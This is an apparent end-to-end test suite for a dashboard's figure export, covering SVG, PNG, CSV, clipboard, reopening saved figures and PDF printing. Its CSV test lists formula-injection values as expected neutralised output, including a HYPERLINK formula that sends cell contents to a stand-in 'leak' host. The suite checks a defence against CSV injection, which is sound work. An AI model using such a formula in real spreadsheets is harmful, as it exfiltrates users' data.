/**
 * Figure export in real Chromium: each chart's Export menu by keyboard, every download checked
 * as a user's program would see it (the SVG parses and is self-contained, the PNG has the pixel
 * size asked for, the CSV is safe in a spreadsheet), the clipboard, reopening a view from a
 * downloaded figure, and the report page printed to PDF.
 */
import { describe, expect, test } from 'vitest';
import { CHART_IDS } from '../../src/lib/charts';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { fixturePath, seriousA11yViolations, useApp, waitForLoaded } from './harness';

const app = useApp();
const fresh = (path = '/', options: Parameters<typeof app.profile>[0] = {}) =>
	app.dashboard(path, options);

/** Every chart of the registry, in dashboard order. */
const CHARTS = CHART_IDS;

/** The chart's export panel, opened if it is closed. */
async function exportPanel(page: Page, chart: string) {
	const fig = page.locator(`figure[data-chart="${chart}"]`);
	const toggle = fig.getByRole('button', { name: 'Export' });
	if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.click();
	return fig.getByRole('group', { name: /^Export / });
}

/** Click `name` in the chart's export panel and return the download's name and bytes. */
async function download(page: Page, chart: string, name: string | RegExp) {
	const panel = await exportPanel(page, chart);
	const [dl] = await Promise.all([
		page.waitForEvent('download'),
		panel.getByRole('button', { name }).click()
	]);
	const stream = await dl.createReadStream();
	const chunks: Buffer[] = [];
	for await (const c of stream) chunks.push(c as Buffer);
	return { name: dl.suggestedFilename(), bytes: new Uint8Array(Buffer.concat(chunks)) };
}

/** Width and height from a PNG's IHDR chunk, and its pHYs pixels per metre (0 when absent). */
function pngInfo(bytes: Uint8Array) {
	const view = new DataView(bytes.buffer, bytes.byteOffset);
	expect(String.fromCharCode(...bytes.subarray(1, 4))).toBe('PNG');
	expect(String.fromCharCode(...bytes.subarray(12, 16))).toBe('IHDR');
	const phys = Buffer.from(bytes).indexOf('pHYs');
	return {
		width: view.getUint32(16),
		height: view.getUint32(20),
		ppm: phys > 0 ? view.getUint32(phys + 4) : 0
	};
}

/** What a reader of the SVG file finds in it, parsed by the browser's XML parser. */
async function inspectSvg(page: Page, text: string) {
	return page.evaluate((svgText) => {
		const doc = new DOMParser().parseFromString(svgText, 'image/svg+xml');
		const root = doc.documentElement;
		const refs: string[] = [];
		for (const el of Array.from(doc.querySelectorAll('*'))) {
			for (const a of Array.from(el.attributes)) {
				const outsideUrl = /https?:|url\(|^\/\//i.test(a.value) && a.name !== 'xmlns';
				if (/(^|:)(href|src)$/.test(a.name) || outsideUrl) refs.push(`${a.name}=${a.value}`);
			}
		}
		return {
			parseError: doc.querySelector('parsererror')?.textContent ?? null,
			root: root.localName,
			viewBox: root.getAttribute('viewBox'),
			width: Number(root.getAttribute('width')),
			title: doc.querySelector('svg > title')?.textContent ?? '',
			desc: doc.querySelector('svg > desc')?.textContent ?? '',
			marks: doc.querySelectorAll('[data-mark]').length,
			refs,
			foreign: doc.querySelectorAll('image, foreignObject, script, style, use').length,
			classes: doc.querySelectorAll('[class]').length,
			meta: JSON.parse(doc.querySelector('metadata#intersect-figure')?.textContent ?? 'null'),
			texts: Array.from(doc.querySelectorAll('svg > text')).map((t) => t.textContent ?? '')
		};
	}, text);
}

async function uploadFormulaFixtures(page: Page) {
	await page
		.getByLabel(/Upload/)
		.setInputFiles([
			fixturePath('good/meetings-semicolon.csv'),
			fixturePath('good/themes-formula.csv'),
			fixturePath('good/outcomes-formula.csv')
		]);
	// The load is finished (tables swapped and saved) only when the upload control is enabled
	// again; the heatmap then redraws from the 16-cell upload instead of the 52-cell sample.
	await waitForLoaded(page);
	await expect
		.poll(() => page.locator('figure[data-chart="theme-sector-heatmap"] [data-mark]').count())
		.toBe(16);
}

describe('the Export menu', () => {
	test('Escape closes the Export and Datasets menus after a click inside them, focus returns to the toggle, and the next click opens again', async () => {
		const page = await fresh();
		const figure = page.locator('figure[data-chart="theme-sector-heatmap"]');
		const menus = [
			{ toggle: figure.getByRole('button', { name: 'Export' }), panel: figure.getByRole('group') },
			{
				toggle: page.getByRole('button', { name: 'Datasets' }),
				panel: page.locator('#datasets-menu')
			}
		];
		for (const { toggle, panel } of menus) {
			await toggle.click();
			await panel.waitFor();
			// A click on the panel itself, not a control: focus leaves for the page body.
			await panel.click({ position: { x: 3, y: 3 } });
			await page.keyboard.press('Escape');
			await panel.waitFor({ state: 'detached' });
			expect(await toggle.getAttribute('aria-expanded')).toBe('false');
			await expect(toggle.evaluate((b) => b === document.activeElement)).resolves.toBe(true);
			await toggle.click();
			await panel.waitFor();
			expect(await toggle.getAttribute('aria-expanded')).toBe('true');
			await page.keyboard.press('Escape');
			await panel.waitFor({ state: 'detached' });
		}
	});

	test('opens from the keyboard, offers every export, and Escape returns focus to its button', async () => {
		const page = await fresh();
		for (const chart of CHARTS) {
			const toggle = page.locator(`figure[data-chart="${chart}"]`).getByRole('button', {
				name: 'Export'
			});
			await toggle.focus();
			await page.keyboard.press('Enter');
			expect(await toggle.getAttribute('aria-expanded')).toBe('true');
			const panel = page.locator(`figure[data-chart="${chart}"]`).getByRole('group');
			for (const name of [
				'Download SVG',
				/Download PNG \(2× screen, [\d,]+ px\)/,
				'Download PNG for print',
				'Copy image',
				'Download all six languages (zip)',
				'Download data (CSV)',
				'Copy embed code',
				'Copy caption'
			])
				await expect(panel.getByRole('button', { name }).isVisible()).resolves.toBe(true);
			// First the figure's language and its time direction in Arabic, then the downloads.
			await page.keyboard.press('Tab');
			await expect(
				page.evaluate(() => document.activeElement?.closest('label')?.textContent?.trim())
			).resolves.toMatch(/^Figure language/);
			await page.keyboard.press('Tab');
			await expect(
				page.evaluate(() => document.activeElement?.closest('label')?.textContent?.trim())
			).resolves.toBe('Arabic figures: years run right to left');
			await page.keyboard.press('Tab');
			await expect(page.evaluate(() => document.activeElement?.textContent)).resolves.toBe(
				'Download SVG'
			);
			await page.keyboard.press('Escape');
			expect(await toggle.getAttribute('aria-expanded')).toBe('false');
			await expect(panel.count()).resolves.toBe(0);
			await expect(toggle.evaluate((b) => b === document.activeElement)).resolves.toBe(true);
		}
		await exportPanel(page, 'theme-sector-heatmap');
		expect(await seriousA11yViolations(page)).toEqual([]);
	});

	test('the suggested caption names figure, title, dataset, period and filters, and copies', async () => {
		const page = await fresh('/?sector=BR');
		await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], {
			origin: app.origin
		});
		const panel = await exportPanel(page, 'theme-sector-heatmap');
		const caption = await panel.locator('.caption .text').textContent();
		expect(caption).toMatch(
			/^Figure 3\. Theme × sector activity\. Source: ISC-TF exports \(sample data\), \d+ \w+ 2015 – \d+ \w+ 2022; filters: Sector: BR\.$/
		);
		await panel.getByRole('button', { name: 'Copy caption' }).click();
		await panel.getByRole('status').filter({ hasText: 'Caption copied' }).waitFor();
		expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(caption);
	});
});

describe('SVG export', () => {
	test('each chart downloads as one self-contained SVG with all its marks, light colours even in dark mode, and its provenance', async () => {
		const page = await fresh('/?sector=BR', { colorScheme: 'dark' });
		for (const chart of CHARTS) {
			const fig = page.locator(`figure[data-chart="${chart}"]`);
			const liveMarks = await fig.locator('svg [data-mark]').count();
			const { name, bytes } = await download(page, chart, 'Download SVG');
			expect(name).toMatch(new RegExp(`^intersect-${chart}-sector-BR-[0-9a-f]{8}\\.svg$`));
			const text = new TextDecoder().decode(bytes);
			const svg = await inspectSvg(page, text);
			expect(svg.parseError, chart).toBeNull();
			expect(svg.root).toBe('svg');
			expect(svg.viewBox).toMatch(/^0 0 \d+ \d+$/);
			expect(svg.title).toBe(await fig.locator('h2').textContent());
			expect(svg.desc.length).toBeGreaterThan(20);
			// Sector collaboration prints as the 4×4 matrix (its lower half), not the screen's chord.
			const marks = chart === 'sector-collaboration' ? 10 : liveMarks;
			expect(svg.marks, `${chart}: every mark of the chart`).toBe(marks);
			expect(svg.refs, `${chart}: no outside reference`).toEqual([]);
			expect(svg.foreign).toBe(0);
			expect(svg.classes, 'styles are inlined, no stylesheet needed').toBe(0);
			expect(text).not.toMatch(/var\(--|currentColor/);
			// Light theme: the dark theme's text and surface colours never reach the file.
			expect(text).not.toMatch(/#e8eaed|#1c1f24|#121417/i);
			expect(text).toContain('fill="#1b1f24"');
			// The view is recorded whole; the words name only the filters the chart's numbers follow
			// (meetings have no sector).
			const sectorApplies = chart !== 'meetings-per-year';
			expect(svg.meta).toMatchObject({
				app: 'Intersect',
				version: '0.1.0',
				chart,
				view: 'sector=BR',
				dataset: 'sample data',
				filters: sectorApplies ? ['Sector: BR'] : []
			});
			expect(name).toContain(svg.meta.fingerprint);
			expect(svg.texts.join(' ')).toContain(
				`Source: ISC-TF exports (sample data), 4 Mar 2015 – 20 Sept 2022; filters: ${sectorApplies ? 'Sector: BR' : 'none'}.`
			);
			await page.keyboard.press('Escape');
		}
	});
});

describe('PNG export', () => {
	test('2× screen size and print size at 300 dpi, on white, with the resolution recorded', async () => {
		const page = await fresh();
		const chart = 'meetings-per-year';
		const svg = await inspectSvg(
			page,
			new TextDecoder().decode((await download(page, chart, 'Download SVG')).bytes)
		);
		const twice = await download(page, chart, /Download PNG \(2×/);
		expect(twice.name).toMatch(/^intersect-meetings-per-year-[0-9a-f]{8}-2x\.png$/);
		// 2×: the chart at its on-screen width (plus the figure's 16 px padding each side), doubled;
		// the SVG is laid out for the print width (16 cm), so it is not its double.
		const live = Number(
			await page.locator(`figure[data-chart="${chart}"] .chart-body > svg`).getAttribute('width')
		);
		expect(pngInfo(twice.bytes)).toMatchObject({ width: 2 * Math.ceil(live + 32), ppm: 7559 });

		const print = await download(page, chart, 'Download PNG for print');
		expect(print.name).toMatch(/-16cm-300dpi\.png$/);
		const info = pngInfo(print.bytes);
		expect(info).toMatchObject({ width: 1890, ppm: 11811 });
		expect(info.height / info.width).toBeCloseTo(Number(svg.viewBox!.split(' ')[3]) / svg.width, 2);
		// A corner pixel is white, not transparent.
		const corner = await page.evaluate(async (b64) => {
			const img = new Image();
			img.src = `data:image/png;base64,${b64}`;
			await img.decode();
			const c = document.createElement('canvas');
			[c.width, c.height] = [img.width, img.height];
			const ctx = c.getContext('2d')!;
			ctx.drawImage(img, 0, 0);
			return Array.from(ctx.getImageData(1, 1, 1, 1).data);
		}, Buffer.from(print.bytes).toString('base64'));
		expect(corner).toEqual([255, 255, 255, 255]);

		const panel = await exportPanel(page, chart);
		await panel.getByLabel('Width (cm)').fill('8.5');
		await expect(panel.textContent()).resolves.toContain('300 dpi, 1,004 px wide');
		const narrow = await download(page, chart, 'Download PNG for print');
		expect(narrow.name).toMatch(/-8\.5cm-300dpi\.png$/);
		expect(pngInfo(narrow.bytes).width).toBe(1004);
	});

	test('Copy image puts the print PNG on the clipboard for pasting into Word', async () => {
		const page = await fresh();
		await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], {
			origin: app.origin
		});
		const panel = await exportPanel(page, 'sector-collaboration');
		await panel.getByRole('button', { name: 'Copy image' }).click();
		await panel.getByRole('status').filter({ hasText: 'Image copied to the clipboard.' }).waitFor();
		const pasted = await page.evaluate(async () => {
			const [item] = await navigator.clipboard.read();
			const bytes = new Uint8Array(await (await item!.getType('image/png')).arrayBuffer());
			const view = new DataView(bytes.buffer);
			return { types: item!.types, width: view.getUint32(16), height: view.getUint32(20) };
		});
		expect(pasted.types).toContain('image/png');
		expect(pasted.width).toBe(1890);
		expect(pasted.height).toBeGreaterThan(1000);
	});
});

describe('CSV export', () => {
	test('uploaded theme names that look like formulas are neutralised; rows match the data table', async () => {
		const page = await fresh();
		await uploadFormulaFixtures(page);
		for (const chart of ['theme-sector-heatmap', 'theme-trends']) {
			const fig = page.locator(`figure[data-chart="${chart}"]`);
			await fig.getByRole('button', { name: 'Show data' }).click();
			const tableRows = await fig.locator('tbody tr').count();
			const header = await fig.locator('thead th').allTextContents();
			const { name, bytes } = await download(page, chart, 'Download data (CSV)');
			expect(name).toMatch(new RegExp(`^intersect-${chart}-[0-9a-f]{8}\\.csv$`));
			expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
			const text = new TextDecoder().decode(bytes);
			const [head, ...rest] = Papa.parse<string[]>(text.replace(/^\uFEFF/, '')).data;
			const blank = rest.findIndex((r) => r.length === 1 && r[0] === '');
			const rows = rest.slice(0, blank);
			expect(head).toEqual(header);
			expect(rows).toHaveLength(tableRows);
			for (const cell of rows.flat())
				expect(cell, 'no cell starts a formula').not.toMatch(/^[=+\-@\t\r]/);
			const themes = new Set(rows.map((r) => r[0]));
			expect(themes).toEqual(
				new Set([
					`'=HYPERLINK("http://example.invalid/?leak="&A1,"Click")`,
					"'+1 Accessibility",
					"'-2 Gender",
					"'@SUM(A1)"
				])
			);
			const footer = rest.slice(blank + 1).filter((r) => r.join('') !== '');
			expect(footer[0]![0]).toMatch(
				/^# .+\. Source: ISC-TF exports \(meetings-semicolon\.csv, themes-formula\.csv, outcomes-formula\.csv; sample attendance\), .+; filters: none\.$/
			);
			expect(footer[1]![0]).toMatch(
				new RegExp(`^# Intersect 0\\.1\\.0 · chart ${chart} · view \\? · fingerprint [0-9a-f]{8}$`)
			);
		}
	});
});

describe('reopening a figure', () => {
	test('a downloaded SVG names its view; reopened over other data it warns, and opens that view', async () => {
		const page = await fresh('/?sector=TSB&status=completed');
		const svg = await download(page, 'outcome-status-trend', 'Download SVG');
		const csv = await download(page, 'outcome-status-trend', 'Download data (CSV)');
		const report = await page.context().newPage();
		await report.goto(`${app.origin}/report`);
		await report
			.getByRole('region', { name: 'Print preview', includeHidden: true })
			.waitFor({ state: 'attached', timeout: 60_000 });
		const input = report.getByLabel('Exported figure (SVG or CSV)');
		const status = report.locator('.reopen [role="status"]');

		await input.setInputFiles({
			name: svg.name,
			mimeType: 'image/svg+xml',
			buffer: Buffer.from(svg.bytes)
		});
		await expect.poll(() => status.textContent()).toContain('Outcomes by status over time');
		expect(await status.textContent()).toContain('?sector=TSB&status=completed');
		expect(await status.textContent()).toContain('The loaded dataset is the same');

		await page.bringToFront();
		await uploadFormulaFixtures(page);
		await report.reload();
		await report
			.getByRole('region', { name: 'Print preview', includeHidden: true })
			.waitFor({ state: 'attached', timeout: 60_000 });
		await report.getByLabel('Exported figure (SVG or CSV)').setInputFiles({
			name: csv.name,
			mimeType: 'text/csv',
			buffer: Buffer.from(csv.bytes)
		});
		await expect.poll(() => status.textContent()).toContain('The loaded dataset differs');
		const href = await status
			.getByRole('link', { name: 'Open this view on the dashboard' })
			.getAttribute('href');
		expect(href).toBe('/?sector=TSB&status=completed');
		await status.getByRole('button', { name: 'Use this view in the report' }).click();
		await expect
			.poll(() => new URL(report.url()).search)
			.toBe('?sector=TSB&status=completed&charts=outcome-status-trend');

		await report.getByLabel('Exported figure (SVG or CSV)').setInputFiles({
			name: 'notes.svg',
			mimeType: 'image/svg+xml',
			buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')
		});
		await expect
			.poll(() => status.textContent())
			.toContain('notes.svg carries no Intersect figure metadata');
	});
});

describe('report page', () => {
	/** Page objects in a PDF (not the /Pages tree). */
	const pdfPages = (pdf: Buffer) =>
		(pdf.toString('latin1').match(/\/Type\s*\/Page(?![a-z])/g) ?? []).length;

	test('the dashboard’s Report link carries the view; charts are added, reordered, removed and captioned by keyboard', async () => {
		const page = await fresh('/?sector=BR');
		await page
			.getByRole('navigation', { name: 'Main' })
			.getByRole('link', { name: 'Report' })
			.click();
		await page.waitForURL(/\/report\?sector=BR$/);
		await page.getByRole('heading', { name: 'Report for print' }).waitFor();
		for (const title of ['Meetings per year', 'Theme trends', 'Sector collaboration']) {
			await page.getByRole('button', { name: `Add ${title}` }).focus();
			await page.keyboard.press('Enter');
		}
		const order = () =>
			page
				.locator('.sheet figure[data-chart]')
				.evaluateAll((fs) => fs.map((f) => f.getAttribute('data-chart')));
		await expect.poll(order).toEqual(['meetings-per-year', 'theme-trends', 'sector-collaboration']);

		await page.getByRole('button', { name: 'Move Sector collaboration up' }).focus();
		await page.keyboard.press('Enter');
		await expect.poll(order).toEqual(['meetings-per-year', 'sector-collaboration', 'theme-trends']);
		await expect(
			page.evaluate(() => document.activeElement?.getAttribute('aria-label'))
		).resolves.toBe('Move Sector collaboration up');
		await expect(
			page.getByRole('status').filter({ hasText: 'is now figure' }).textContent()
		).resolves.toBe('Sector collaboration is now figure 2.');
		await page.getByRole('button', { name: 'Remove Meetings per year' }).click();
		await expect.poll(order).toEqual(['sector-collaboration', 'theme-trends']);
		expect(new URL(page.url()).search).toBe(
			'?sector=BR&charts=sector-collaboration%2Ctheme-trends'
		);

		const caption = page.getByLabel('Caption of figure 2');
		expect(await caption.inputValue()).toMatch(
			/^Theme trends\. Source: ISC-TF exports \(sample data\), .+; filters: Sector: BR\.$/
		);
		await caption.fill('Outcomes per theme and year, BR only.');
		await expect(
			page.locator('.sheet figure[data-chart="theme-trends"] figcaption').textContent()
		).resolves.toBe('Figure 2. Outcomes per theme and year, BR only.');
		await page.getByRole('button', { name: 'Suggested caption' }).nth(1).click();
		await expect(
			page.locator('.sheet figure[data-chart="theme-trends"] figcaption').textContent()
		).resolves.toMatch(/^Figure 2\. Theme trends\. Source:/);
		expect(await seriousA11yViolations(page)).toEqual([]);
	});

	test('printed to PDF: one chart per page or two, header and footer on each page, charts vector', async () => {
		const page = await fresh();
		const charts = 'meetings-per-year,theme-sector-heatmap,sector-collaboration';
		for (const [per, pages] of [
			[1, 3],
			[2, 2]
		] as const) {
			await page.goto(`${app.origin}/report?charts=${charts}&per=${per}`);
			await page.locator('.sheet figure[data-chart] svg').nth(2).waitFor({ timeout: 60_000 });
			await page.emulateMedia({ media: 'print' });
			await expect(page.locator('.controls').isVisible()).resolves.toBe(false);
			await expect(page.getByRole('navigation', { name: 'Main' }).isVisible()).resolves.toBe(false);
			const sheets = page.locator('.sheet');
			await expect(sheets.count()).resolves.toBe(pages);
			for (let i = 0; i < pages; i++) {
				const text = await sheets.nth(i).textContent();
				expect(text).toContain('Intersect report · ISC-TF exports (sample data)');
				expect(text).toMatch(/Generated \d+ \w+ \d{4}/);
				expect(text).toMatch(/Intersect 0\.1\.0 · dataset [0-9a-f]{8}/);
				expect(text).toContain(`Page ${i + 1} of ${pages}`);
			}
			const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: true });
			expect(pdfPages(pdf), `${per} per page`).toBe(pages);
			// A4 portrait: 210 mm × 297 mm is 595 pt × 842 pt.
			const box = /\/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]/.exec(pdf.toString('latin1'))!;
			expect(Number(box[1])).toBeCloseTo(595, 0);
			expect(Number(box[2])).toBeCloseTo(842, 0);
			expect(pdf.toString('latin1'), 'no raster image: charts stay vector').not.toMatch(
				/\/Subtype\s*\/Image/
			);
			await page.emulateMedia({ media: 'screen' });
		}
	});
});
